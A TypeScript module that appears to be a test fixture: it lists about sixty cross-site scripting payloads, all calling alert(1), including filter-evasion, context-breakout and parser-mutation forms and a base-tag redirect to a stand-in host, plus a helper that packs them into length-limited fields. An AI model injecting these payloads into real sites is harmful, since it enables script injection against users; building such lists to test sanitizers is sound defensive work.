/**
 * Sixty ways in which words have become scripts somewhere. Each is one line, and would call `alert` where it worked.
 * Short, so that many fit into one field.
 */
export const PAYLOADS: readonly string[] = [
  // Elements
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x>alert(1)</script/x>',
  '<script src=data:,alert(1)></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set onbegin=alert(1) attributeName=x>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<body onload=alert(1)>',
  '<iframe onload=alert(1)></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<video><source onerror=alert(1)></video>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<button autofocus onfocus=alert(1)>x</button>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<style onload=alert(1)></style>',
  '<style>@import "javascript:alert(1)";</style>',
  '<link rel=stylesheet href=data:, onload=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.test/">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<p style="animation:x" onanimationstart=alert(1)>x</p>',
  // Ends of what stands around the words
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover=alert(1) x='",
  '</script><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '--><img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
  "';alert(1);//",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that it looks like one is the point
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  '"\u2028alert(1)\u2029"',
  // What a parser turns into something else
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\u202e>)1(trela=rorreno x=crs gmi<\u202c',
  // Addresses
  'javascript:alert(1)',
  'java&#9;script:alert(1)//http://x',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
]

/** All of them, as few to a text as its field holds. */
export function packed(longest: number): string[] {
  const packs: string[] = []
  for (const payload of PAYLOADS.filter(({ length }) => length <= longest)) {
    const last = packs.at(-1)
    if (last !== undefined && last.length + 1 + payload.length <= longest)
      packs[packs.length - 1] = `${last} ${payload}`
    else packs.push(payload)
  }
  return packs
}
